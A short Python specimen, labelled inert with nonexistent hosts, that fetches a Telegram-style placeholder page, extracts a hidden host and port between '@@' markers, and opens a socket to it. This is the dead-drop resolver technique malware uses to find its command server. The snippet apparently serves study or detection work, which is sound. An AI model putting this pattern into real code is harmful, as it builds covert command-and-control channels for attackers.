# Inert specimen: the hosts do not exist.
import re
import socket

import requests

page = requests.get("https://t.me.example/s/inert_specimen").text
host, port = re.search(r"@@(.+?):(\d+)@@", page).groups()
line = socket.create_connection((host, int(port)))
